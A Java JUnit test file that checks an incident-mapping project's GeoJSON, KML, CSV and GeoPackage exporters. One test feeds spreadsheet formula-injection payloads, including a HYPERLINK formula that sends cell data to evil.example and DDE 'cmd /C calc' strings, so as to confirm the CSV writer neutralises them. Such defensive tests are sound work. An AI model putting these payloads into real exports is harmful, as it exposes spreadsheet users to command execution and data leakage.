package org.incidentatlas.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.micromata.opengis.kml.v_2_2_0.Data;
import de.micromata.opengis.kml.v_2_2_0.Document;
import de.micromata.opengis.kml.v_2_2_0.Feature;
import de.micromata.opengis.kml.v_2_2_0.Folder;
import de.micromata.opengis.kml.v_2_2_0.Kml;
import de.micromata.opengis.kml.v_2_2_0.Placemark;
import de.micromata.opengis.kml.v_2_2_0.Point;
import de.micromata.opengis.kml.v_2_2_0.TimeSpan;
import de.micromata.opengis.kml.v_2_2_0.TimeStamp;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import mil.nga.geopackage.GeoPackage;
import mil.nga.geopackage.GeoPackageManager;
import mil.nga.geopackage.extension.metadata.Metadata;
import mil.nga.geopackage.extension.metadata.MetadataExtension;
import mil.nga.geopackage.features.user.FeatureDao;
import mil.nga.geopackage.features.user.FeatureResultSet;
import mil.nga.geopackage.features.user.FeatureRow;
import org.incidentatlas.model.Article;
import org.incidentatlas.model.Extraction;
import org.incidentatlas.model.Incident;
import org.incidentatlas.model.Place;
import org.incidentatlas.model.PlaceKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExportWritersTest {
    private static final String SCOPE = "what is shown: time 2018-01-01 to 2020-12-31 (plus undated)";

    @TempDir
    Path dir;

    @Test
    void geoJsonReimportsToTheSameIncidentsAndDeployments() throws Exception {
        Extraction x = ExportSamples.extraction();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new GeoJsonWriter().write(x, SCOPE, out);

        GeoJsonReader.Result back = new GeoJsonReader().read("t.geojson", new ByteArrayInputStream(out.toByteArray()));

        assertThat(back.problems()).isEmpty();
        assertThat(back.scope()).isEqualTo(SCOPE);
        assertThat(back.incidents()).containsExactlyElementsOf(x.incidents());
        assertThat(back.deployments()).containsExactlyElementsOf(x.deployments());
        assertThat(back.quotes().get(x.incidents().get(0).evidence().get(0)))
                .isEqualTo("Rockets hit Ain al-Asad, a \"key\" base, on 5 January 2020.");
    }

    @Test
    void geoJsonReaderReportsABadFeatureAndKeepsTheOthers() throws Exception {
        String json = """
                {"type":"FeatureCollection","features":[
                 {"type":"Feature","geometry":null,"properties":{"layer":"incident","id":"x1","event_type":"Battles",
                  "date_precision":"day","date":"2020-13-45","date_end":"2020-13-45","status":"reported",
                  "evidence":[{"article":"a","sentence_index":0,"start":0,"end":1}]}},
                 {"type":"Feature","geometry":null,"properties":{"layer":"incident","id":"x2","event_type":"Battles",
                  "date_precision":"unknown","status":"reported",
                  "evidence":[{"article":"a","sentence_index":0,"start":0,"end":1}]}}]}""";
        GeoJsonReader.Result r = new GeoJsonReader().read("bad.geojson",
                new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)));
        assertThat(r.incidents()).extracting(Incident::id).containsExactly("x2");
        assertThat(r.problems()).singleElement().asString().startsWith("bad.geojson: feature 1 (incident x1)");
    }

    @Test
    void kmlIsValidAgainstTheOgcSchema() throws Exception {
        KmlSchema.validate(kml(ExportSamples.extraction()));
    }

    @Test
    void kmlReadBackByJakHasTimesQuotesAndUnpinnedFolder() throws Exception {
        Kml kml = Kml.unmarshal(new ByteArrayInputStream(kml(ExportSamples.extraction())));
        assertThat(kml).as("JAK parses the KML").isNotNull();
        Document doc = (Document) kml.getFeature();
        assertThat(doc.getDescription()).contains(SCOPE);
        assertThat(doc.getExtendedData().getData()).extracting(Data::getName, Data::getValue)
                .contains(org.assertj.core.groups.Tuple.tuple("scope", SCOPE));
        Map<String, Folder> folders = new java.util.HashMap<>();
        for (Feature feature : doc.getFeature()) {
            folders.put(feature.getName(), (Folder) feature);
        }
        List<Placemark> incidents = placemarks(folders.get("Incidents"));
        assertThat(incidents).hasSize(2);
        Placemark strike = incidents.get(0);
        assertThat(((TimeStamp) strike.getTimePrimitive()).getWhen()).isEqualTo("2020-01-05");
        Point p = (Point) strike.getGeometry();
        assertThat(p.getCoordinates().get(0).getLongitude()).isCloseTo(42.4412, within(1e-9));
        assertThat(p.getCoordinates().get(0).getLatitude()).isCloseTo(33.7856, within(1e-9));
        assertThat(strike.getDescription())
                .contains("Rockets hit Ain al-Asad, a &quot;key&quot; base")
                .contains("&amp; others &lt;denied&gt; it.")
                .contains("Sot &lt;al-Iraq&gt;")
                .contains("Kataib Hezbollah; Harakat Hezbollah al-Nujaba; others")
                .contains("2020-01-06");
        TimeSpan month = (TimeSpan) incidents.get(1).getTimePrimitive();
        assertThat(month.getBegin()).isEqualTo("2018-03-01");
        assertThat(month.getEnd()).isEqualTo("2018-03-31");
        assertThat(incidents.get(0).getStyleUrl()).isNotEqualTo(incidents.get(1).getStyleUrl());

        List<Placemark> deployments = placemarks(folders.get("Deployments"));
        TimeSpan since = (TimeSpan) deployments.get(0).getTimePrimitive();
        assertThat(since.getBegin()).isEqualTo("2017-01-01");
        assertThat(since.getEnd()).isNull();

        List<Placemark> unpinned = placemarks(folders.get("Unpinned incidents"));
        assertThat(unpinned).singleElement().satisfies(u -> {
            assertThat(u.getGeometry()).isNull();
            assertThat(u.getTimePrimitive()).isNull();
            assertThat(u.getDescription()).contains("Someone threatened to strike.").contains("Somewhere in: Iraq");
        });
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '\'', textBlock = """
            plain                  | plain
            a,b                    | '"a,b"'
            say "hi"               | '"say ""hi""\"'
            ''                     | ''
            33.5                   | 33.5
            عين الأسد              | عين الأسد
            """)
    void csvFieldsFollowRfc4180(String value, String expected) {
        assertThat(CsvWriter.field(value == null ? "" : value)).isEqualTo(expected == null ? "" : expected);
    }

    @Test
    void csvQuotesLineBreaksAndWritesPlainNumbers() {
        assertThat(CsvWriter.field("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(CsvWriter.field("cr\rhere")).isEqualTo("\"cr\rhere\"");
        assertThat(CsvWriter.field(1.0E-5)).isEqualTo("0.00001");
        assertThat(CsvWriter.field(null)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiterString = " ~> ", quoteCharacter = '`', textBlock = """
            =HYPERLINK("http://evil.example/?"&A1;"click") ~> `"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`
            =1+1                                           ~> '=1+1
            +1+cmd|' /C calc'!A0                           ~> `'+1+cmd|' /C calc'!A0`
            -2+3+cmd|' /C calc'!A0                         ~> `'-2+3+cmd|' /C calc'!A0`
            @SUM(1+1)*cmd|' /C calc'!A0                    ~> `'@SUM(1+1)*cmd|' /C calc'!A0`
            =cmd,with comma                                ~> `"'=cmd,with comma"`
            -3.5                                           ~> -3.5
            +44                                            ~> +44
            -                                              ~> '-
            a=b                                            ~> a=b
            Kataib Hezbollah                               ~> Kataib Hezbollah
            """)
    void csvNeutralisesTextASpreadsheetWouldRunAsAFormula(String value, String expected) {
        assertThat(CsvWriter.field(value)).isEqualTo(expected);
    }

    @Test
    void csvNeutralisesLeadingTabAndCarriageReturnButNeverNumbers() {
        assertThat(CsvWriter.field("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvWriter.field("\r=1+1")).isEqualTo("\"'\r=1+1\""); // CR also makes it quoted
        assertThat(CsvWriter.field(-3.5)).isEqualTo("-3.5");
        assertThat(CsvWriter.field(-60.0217)).isEqualTo("-60.0217");
        assertThat(CsvWriter.field(-7)).isEqualTo("-7");
    }

    @Test
    void csvRowsKeepNegativeCoordinatesNumericAndGuardHostileText() throws Exception {
        Extraction x = ExportSamples.extraction();
        Incident strike = x.incidents().get(0);
        // a corpus can say anything: a place, a publisher and a sentence that look like formulas
        Place manaus = new Place("gn:3663517", "-Manaus", PlaceKind.CITY, "PPLA", "BR", "04", -3.10194, -60.025, 1_598_210, 8);
        Incident hostile = new Incident(strike.id(), strike.type(), strike.date(), manaus, 1, strike.actors(),
                strike.fatalities(), strike.status(), strike.evidence(), strike.sources(), "=HYPERLINK(\"x\")");
        List<Article> articles = new ArrayList<>(x.articles());
        Article a = articles.get(0);
        String text = "=SUM(A1:A9) rockets hit" + a.text().substring("Rockets hit Ain al-Asad".length()); // same spans
        articles.set(0, new Article(a.id(), a.source(), a.title(), "@publisher", a.author(), a.url(), a.published(),
                a.publishedApprox(), text, a.sentences(), a.warnings(), a.sourceOffsets()));
        Extraction changed = new Extraction(articles, x.mentions(), List.of(hostile), List.of(), List.of());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvWriter().write(changed, out);

        List<String> row = parseCsv(out.toString(StandardCharsets.UTF_8)).get(1);
        assertThat(row.get(6)).isEqualTo("'-Manaus");
        assertThat(row.subList(7, 9)).containsExactly("-3.10194", "-60.025");
        assertThat(row.get(11)).isEqualTo("'@publisher");
        assertThat(row.get(13)).startsWith("'=SUM(A1:A9) rockets hit, a \"key\" base");
        assertThat(row.get(14)).startsWith("id a.txt#1").contains("=HYPERLINK"); // inside the cell: inert
        assertThat(row).noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    @Test
    void csvHasExactlyTheAcledColumnsAndASidecarWithTheScope() throws Exception {
        Path csv = dir.resolve("out.csv");
        new CsvWriter().export(ExportSamples.extraction(), SCOPE, csv);

        List<List<String>> rows = parseCsv(Files.readString(csv, StandardCharsets.UTF_8));
        assertThat(rows.get(0)).containsExactly("event_date", "time_precision", "event_type", "sub_event_type",
                "actor1", "actor2", "location", "latitude", "longitude", "geo_precision", "fatalities", "source",
                "source_url", "quote", "notes");
        assertThat(rows).hasSize(4).allSatisfy(r -> assertThat(r).hasSize(15));
        List<String> strike = rows.get(1);
        assertThat(strike.subList(0, 11)).containsExactly("2020-01-05", "1", "Explosions/Remote violence",
                "Shelling/artillery/missile attack", "Kataib Hezbollah", "Harakat Hezbollah al-Nujaba",
                "Ain al-Asad Air Base", "33.7856", "42.4412", "1", "0");
        assertThat(strike.get(11)).isEqualTo("Sot <al-Iraq>");
        assertThat(strike.get(12)).isEqualTo("https://example.org/a?x=1&y=2");
        assertThat(strike.get(13)).startsWith("Rockets hit Ain al-Asad, a \"key\" base").contains(" | Kataib");
        assertThat(strike.get(14)).contains("id a.txt#1").contains("more actors: others");
        List<String> month = rows.get(2);
        assertThat(month.subList(0, 2)).containsExactly("2018-03-16", "3");
        assertThat(month.get(10)).isEmpty(); // fatalities unknown, not 0
        assertThat(month.get(11)).isEqualTo("Al-Sharq, Al-Awsat");
        assertThat(month.get(13)).contains("Albu Kamal,\nsources said.");
        assertThat(month.get(14)).contains("date 2018-03-01..2018-03-31 (month)").contains("status alleged");
        List<String> unpinned = rows.get(3);
        assertThat(unpinned.subList(0, 2)).containsExactly("", "");
        assertThat(unpinned.get(6)).isEqualTo("Iraq"); // the area it lies in, never a centroid
        assertThat(unpinned.subList(7, 10)).containsOnly("");
        assertThat(unpinned.get(14)).contains("date unresolved: \"soon\"")
                .contains("only the area is known: Iraq (unpinned, no point given)");

        JsonNode meta = new ObjectMapper().readTree(CsvWriter.metadataPath(csv).toFile());
        assertThat(meta.path("scope").asText()).isEqualTo(SCOPE);
        assertThat(meta.path("rows").asInt()).isEqualTo(3);
        assertThat(meta.path("file").asText()).isEqualTo("out.csv");
    }

    @Test
    void exportingWhatIsShownWritesOnlyTheShownIncidentsAndSaysSo() throws Exception {
        Extraction all = ExportSamples.extraction();
        // what a filter leaves: the exporter only sees the extraction it is given
        Extraction shown = new Extraction(all.articles(), all.mentions(), all.incidents().subList(1, 2), List.of(),
                List.of());
        Path csv = dir.resolve("shown.csv");
        new CsvWriter().export(shown, SCOPE, csv);
        List<List<String>> rows = parseCsv(Files.readString(csv, StandardCharsets.UTF_8));
        assertThat(rows).hasSize(2);
        assertThat(rows.get(1).get(14)).startsWith("id b.txt#1");

        Kml kml = Kml.unmarshal(new ByteArrayInputStream(kml(shown)));
        Document doc = (Document) kml.getFeature();
        int placemarks = 0;
        for (Feature f : doc.getFeature()) {
            placemarks += ((Folder) f).getFeature().size();
        }
        assertThat(placemarks).isEqualTo(1);
        assertThat(doc.getDescription()).contains("Scope: " + SCOPE);
    }

    @ParameterizedTest
    @CsvSource(textBlock = """
            2020-01-05, 2020-01-05, DAY,   1
            2020-01-05, 2020-01-07, DAY,   2
            2020-01-06, 2020-01-12, WEEK,  2
            2020-01-01, 2020-01-31, MONTH, 3
            2020-01-01, 2020-12-31, YEAR,  3
            2020-01-01, 2020-02-15, DAY,   3
            """)
    void timePrecisionFollowsAcled(String start, String end, String precision, int expected) {
        var d = new org.incidentatlas.model.EventDate(java.time.LocalDate.parse(start), java.time.LocalDate.parse(end),
                org.incidentatlas.model.DatePrecision.valueOf(precision), null, false);
        assertThat(AcledRow.timePrecision(d)).isEqualTo(expected);
    }

    @Test
    void geoPackageIsReadBackByNgaWithPointsNullGeometryAndScope() throws Exception {
        Path file = dir.resolve("out.gpkg");
        Files.writeString(file, "an older export that must be replaced");
        new GeoPackageWriter().write(ExportSamples.extraction(), SCOPE, file);

        try (GeoPackage gp = GeoPackageManager.open(file.toFile(), false)) {
            assertThat(gp.getFeatureTables()).containsExactlyInAnyOrder("incidents", "deployments");
            FeatureDao dao = gp.getFeatureDao("incidents");
            assertThat(dao.getSrsId()).isEqualTo(4326);
            List<FeatureRow> rows = new ArrayList<>();
            FeatureResultSet rs = dao.queryForAll();
            try {
                while (rs.moveToNext()) {
                    rows.add(rs.getRow());
                }
            } finally {
                rs.close();
            }
            assertThat(rows).hasSize(3);
            FeatureRow strike = rows.get(0);
            assertThat(strike.getValue("incident_id")).isEqualTo("a.txt#1");
            // DATE and DATETIME columns come back as instants (UTC)
            assertThat(((java.util.Date) strike.getValue("event_date")).toInstant())
                    .isEqualTo(java.time.Instant.parse("2020-01-05T00:00:00Z"));
            assertThat(((java.util.Date) strike.getValue("time_end")).toInstant())
                    .isEqualTo(java.time.Instant.parse("2020-01-05T23:59:59.999Z"));
            assertThat(((Number) strike.getValue("time_precision")).intValue()).isEqualTo(1);
            assertThat(strike.getValue("actor2")).isEqualTo("Harakat Hezbollah al-Nujaba");
            mil.nga.sf.Point p = (mil.nga.sf.Point) strike.getGeometry().getGeometry();
            assertThat(p.getX()).isCloseTo(42.4412, within(1e-9));
            assertThat(p.getY()).isCloseTo(33.7856, within(1e-9));
            FeatureRow unpinned = rows.get(2);
            assertThat(unpinned.getGeometry() == null || unpinned.getGeometry().isEmpty()).isTrue();
            assertThat(unpinned.getValue("latitude")).isNull();

            assertThat(gp.getFeatureDao("deployments").count()).isEqualTo(1);
            assertThat(gp.getContentsDao().queryForId("incidents").getDescription()).contains(SCOPE);
            List<Metadata> md = MetadataExtension.getMetadataDao(gp).queryForAll();
            assertThat(md).singleElement().satisfies(m -> assertThat(m.getMetadata()).contains(SCOPE));
        }
        try (var files = Files.list(dir)) {
            assertThat(files.map(f -> f.getFileName().toString())).containsExactly("out.gpkg"); // no temp left
        }
    }

    @ParameterizedTest
    @org.junit.jupiter.params.provider.EnumSource(ExportFormat.class)
    void everyFormatWritesTheScopeIntoItsFileAndLeavesNoTemporaryFile(ExportFormat format) throws Exception {
        Path file = dir.resolve("export." + format.extension());
        assertThat(ExportFormat.forFileName(file.getFileName().toString())).isEqualTo(format);
        format.write(ExportSamples.extraction(), SCOPE, file);

        String scopeHolder = switch (format) {
            case CSV -> Files.readString(CsvWriter.metadataPath(file));
            case GEOPACKAGE -> {
                try (GeoPackage gp = GeoPackageManager.open(file.toFile(), false)) {
                    yield MetadataExtension.getMetadataDao(gp).queryForAll().get(0).getMetadata();
                }
            }
            default -> Files.readString(file);
        };
        assertThat(scopeHolder).contains(SCOPE.replace("\"", "\\\""));
        try (var files = Files.list(dir)) {
            assertThat(files.map(f -> f.getFileName().toString())).allMatch(n -> n.startsWith("export."));
        }
    }

    private static byte[] kml(Extraction x) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new KmlWriter().write(x, SCOPE, out);
        return out.toByteArray();
    }

    private static List<Placemark> placemarks(Folder f) {
        List<Placemark> out = new ArrayList<>();
        for (Feature x : f.getFeature()) {
            out.add((Placemark) x);
        }
        return out;
    }

    /** A strict RFC 4180 reader for the test: CRLF records, quoted fields may hold anything. */
    static List<List<String>> parseCsv(String s) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder f = new StringBuilder();
        boolean quoted = false;
        for (int k = 0; k < s.length(); k++) {
            char c = s.charAt(k);
            if (quoted) {
                if (c == '"' && k + 1 < s.length() && s.charAt(k + 1) == '"') {
                    f.append('"');
                    k++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    f.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(f.toString());
                f.setLength(0);
            } else if (c == '\r' && k + 1 < s.length() && s.charAt(k + 1) == '\n') {
                row.add(f.toString());
                f.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                k++;
            } else {
                f.append(c);
            }
        }
        return rows;
    }

}
